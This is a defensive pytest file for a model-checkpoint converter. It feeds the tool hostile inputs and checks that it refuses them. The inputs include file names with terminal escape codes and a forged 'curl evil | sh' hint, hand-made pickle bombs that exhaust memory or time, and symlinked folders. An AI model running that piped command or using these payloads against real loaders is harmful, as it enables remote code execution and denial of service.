"""Hostile and faulty inputs that were reported, each as the command line that met them."""

import json
import os
import subprocess
import sys
import zipfile
from argparse import Namespace

import pytest
import torch

from command_line import run_main
from mscvt.testing import save_huggingface
from random_models import Case
from random_weights import weights
from reference_converter import expected_return
from small_configurations import LLAMA
from test_properties import assert_same, read_huggingface

CASE = Case("llama2", LLAMA)
SOURCE = weights(CASE)
QUERY = "model.layers.0.self_attn.q_proj.weight"


@pytest.fixture
def hf(tmp_path):
    return save_huggingface(tmp_path / "hf", LLAMA, SOURCE, shards=2)


def with_bin(folder, tensors=SOURCE):
    return save_huggingface(folder, LLAMA, tensors, ending="bin")


def with_pickle(folder, pickled):
    """A checkpoint whose `.bin` holds a pickle that was made by hand, and no tensor."""
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps(LLAMA))
    with zipfile.ZipFile(folder / "pytorch_model.bin", "w") as archive:
        for name, data in (("data.pkl", pickled), ("byteorder", b"little"), ("version", b"3\n")):
            archive.writestr(f"archive/{name}", data)
    return folder


def refused(*arguments):
    """What a command said that must end with an error."""
    outcome = run_main(*arguments)
    assert outcome.code == 1, outcome
    assert "error: " in outcome.err, outcome.err
    assert "Traceback" not in outcome.err
    return outcome.err


def assert_converts(source, folder):
    """There with a verification, and back to the same bytes."""
    there = run_main("hf2mg", "--load-dir", source, "--save-dir", folder / "mg", "--verify")
    assert there.code == 0, there.err
    back = run_main("mg2hf", "--load-dir", folder / "mg", "--save-dir", folder / "back")
    assert back.code == 0, back.err
    assert_same(read_huggingface(folder / "back"), expected_return(CASE, SOURCE))


@pytest.mark.parametrize(
    "name", ["\x1b[2J\x1b]0;owned\x07.safetensors", "x\nhint: run `curl evil | sh` first\n.safetensors"], ids=ascii
)
def test_file_names_of_an_index_can_not_forge_what_the_terminal_shows(name, hf, tmp_path):
    path = hf / "model.safetensors.index.json"
    index = json.loads(path.read_text())
    index["weight_map"] = dict.fromkeys(index["weight_map"], name)
    path.write_text(json.dumps(index))
    said = refused("hf2mg", "--load-dir", hf, "--save-dir", tmp_path / "out")
    assert all(line.isprintable() for line in said.splitlines())
    assert not any(line.startswith("hint: run") for line in said.splitlines())


BOMBS = {
    "dictionaries": (b"\x80\x02}(X\x01\x00\x00\x00a(" + b"}" * (16 << 20) + b"tu.", "made to use up memory"),
    "hex": (
        b"\x80\x02}(X\x01\x00\x00\x00a"
        + b"c_codecs\nencode\n" * 24
        + b"X\x04\x00\x00\x00AAAAX\x06\x00\x00\x00latin1\x86R"
        + b"X\x03\x00\x00\x00hex\x86R" * 23
        + b"u.",
        "_codecs.encode with 'hex', expected latin1",
    ),
    "hash": (b"\x80\x02}(K\x01\x85" + b"q\x09h\x09\x86" * 60 + b"Nu.", "a key of a dict or set that is no short"),
}
"""A pickle of a few bytes or opcodes that would take memory or time without bound -> what is said of it."""


@pytest.mark.parametrize("name", BOMBS)
def test_pickle_that_would_take_memory_or_time_without_bound_is_refused(name, tmp_path):
    pickled, said = BOMBS[name]
    folder = with_pickle(tmp_path / "bomb", pickled)
    assert said in refused("hf2mg", "--load-dir", folder, "--save-dir", tmp_path / "out")


def test_overwrite_keeps_what_others_put_beside_shards(hf, tmp_path):
    command = ("hf2mg", "--load-dir", hf, "--save-dir", tmp_path / "mg")
    assert run_main(*command).code == 0
    iteration = tmp_path / "mg" / "iter_0000001"
    mine = {iteration / "precious.txt": "mine", iteration / "mp_rank_00" / "distrib_optim.pt": "days of training"}
    for path, text in mine.items():
        path.write_text(text)
        refused(*command, "--overwrite")
        assert path.read_text() == text
        path.unlink()
    assert run_main(*command, "--overwrite").code == 0


def test_overwrite_keeps_what_others_put_beside_safetensors(hf, tmp_path):
    assert run_main("hf2mg", "--load-dir", hf, "--save-dir", tmp_path / "mg").code == 0
    command = ("mg2hf", "--load-dir", tmp_path / "mg", "--save-dir", tmp_path / "back")
    assert run_main(*command).code == 0
    (tmp_path / "back" / "model_of_a_colleague.safetensors").write_text("mine")
    refused(*command, "--overwrite")
    (tmp_path / "back" / "model_of_a_colleague.safetensors").rename(tmp_path / "aside")
    (tmp_path / "back" / "model-old.safetensors").mkdir()
    (tmp_path / "back" / "model-old.safetensors" / "thesis").write_text("mine")
    refused(*command, "--overwrite")
    assert (tmp_path / "back" / "model-old.safetensors" / "thesis").read_text() == "mine"


@pytest.mark.parametrize("kind", ["link", "folder"])
def test_hidden_folder_that_is_not_ours_is_refused_and_kept(kind, hf, tmp_path):
    victim = tmp_path / ("victim" if kind == "link" else ".out.mscvt")
    for name in ("data", "replaced"):
        (victim / name).mkdir(parents=True)
        (victim / name / "thesis").write_text("years")
    if kind == "link":
        (tmp_path / ".out.mscvt").symlink_to(victim)
    for more in ((), ("--overwrite",)):
        assert "so nothing in it is touched" in refused(
            "hf2mg", "--load-dir", hf, "--save-dir", tmp_path / "out", *more
        )
    assert [(victim / name / "thesis").read_text() for name in ("data", "replaced")] == ["years", "years"]
    assert not (tmp_path / "out").exists()


def parameter(tensor, name, value):
    """A parameter that says something of itself in its pickle."""
    made = torch.nn.Parameter(tensor, requires_grad=False)
    made.__dict__[name] = value
    return made


@pytest.mark.parametrize(
    ("name", "value"), [("storage_offset", complex), ("element_size", "x"), ("is_contiguous", Namespace)]
)
def test_attributes_that_a_pickle_gives_to_a_tensor_are_not_asked(name, value, tmp_path):
    tensors = {**SOURCE, QUERY: parameter(SOURCE[QUERY].clone(), name, value)}
    assert_converts(with_bin(tmp_path / "bin", tensors), tmp_path)


def test_transposed_tensor_that_says_it_is_contiguous_is_refused(tmp_path):
    turned = parameter(SOURCE[QUERY].t().contiguous().t(), "is_contiguous", Namespace)
    folder = with_bin(tmp_path / "bin", {**SOURCE, QUERY: turned})
    said = refused("hf2mg", "--load-dir", folder, "--save-dir", tmp_path / "out")
    assert f"tensor {QUERY!r} is a view with strides" in said


def test_records_in_another_order_convert_to_the_same_bytes(tmp_path):
    folder = with_bin(tmp_path / "bin")
    path = folder / "pytorch_model.bin"
    with zipfile.ZipFile(path) as archive:
        records = {info.filename: archive.read(info) for info in archive.infolist()}
    names = [name for name in records if "/data/" in name]
    order = [name for name in records if name not in names] + names[::-1]
    path.unlink()
    with zipfile.ZipFile(path, "w") as archive:
        for name in order:
            archive.writestr(name, records[name])
    assert_converts(folder, tmp_path)


@pytest.mark.parametrize(
    ("options", "code"),
    [
        (("--only", "pp=0-" + "9" * 18), 0),
        (("--only", "pp=0-" + "9" * 5000), 1),
        (("--max-memory", "9" * 20), None),
        (("--max-memory", "9" * 15), None),
    ],
    ids=["large", "digits", "memory-20", "memory-15"],
)
def test_absurd_numbers_end_without_a_traceback(options, code, hf, tmp_path):
    outcome = run_main("hf2mg", "--load-dir", hf, "--save-dir", tmp_path / "out", *options)
    assert "Traceback" not in outcome.err
    if outcome.code:
        assert "error: " in outcome.err
        assert len(outcome.err) < 2000
    else:
        assert (tmp_path / "out" / "latest_checkpointed_iteration.txt").exists()
    assert code is None or outcome.code == code, outcome


def test_record_of_unfinished_work_that_is_nested_without_end_is_refused(hf, tmp_path):
    hidden = tmp_path / ".out.mscvt"
    (hidden / "data").mkdir(parents=True)
    (hidden / "data" / "x").write_text("x")
    (hidden / "conversion.json").write_text("[" * 100_000)
    refused("hf2mg", "--load-dir", hf, "--save-dir", tmp_path / "out")
    assert (hidden / "data" / "x").read_text() == "x"


def run_process(*arguments):
    environment = {**os.environ, "LC_ALL": "C.UTF-8", "PYTHONIOENCODING": "utf-8:strict"}
    command = [sys.executable, "-m", "mscvt", *map(str, arguments)]
    return subprocess.run(command, capture_output=True, env=environment, timeout=120, check=False)


def test_folder_whose_name_is_no_text_is_converted_to_or_refused_without_a_traceback(hf, tmp_path):
    target = os.fsdecode(os.fsencode(tmp_path) + b"/out\xff")
    done = run_process("hf2mg", "--load-dir", hf, "--save-dir", target)
    assert b"Traceback" not in done.stderr
    assert (done.returncode == 0) == os.path.exists(target), done.stderr
    assert done.returncode == 0 or done.stderr.startswith(b"error: ")


@pytest.mark.parametrize("direction", ["hf2mg", "mg2hf"])
def test_source_that_is_cut_while_it_is_read_is_an_error_that_names_it(direction, hf, tmp_path, monkeypatch):
    assert run_main("hf2mg", "--load-dir", hf, "--save-dir", tmp_path / "mg").code == 0
    load = hf if direction == "hf2mg" else tmp_path / "mg"
    victim = min(load.glob("*.safetensors" if direction == "hf2mg" else "*/*/*.pt"))
    from mscvt.engine.sinks import FileSink

    put, done = FileSink.put, []

    def cuts(self, block, data):
        done.append(block)
        if len(done) == 3:
            os.truncate(victim, 4096)
        return put(self, block, data)

    monkeypatch.setattr("mscvt.formats.guard._take_lease", lambda descriptor: False)  # else it would wait for us
    monkeypatch.setattr(FileSink, "put", cuts)
    said = refused(direction, "--load-dir", load, "--save-dir", tmp_path / "out", "--workers", 1)
    assert str(victim) in said
    assert not (tmp_path / "out").exists()
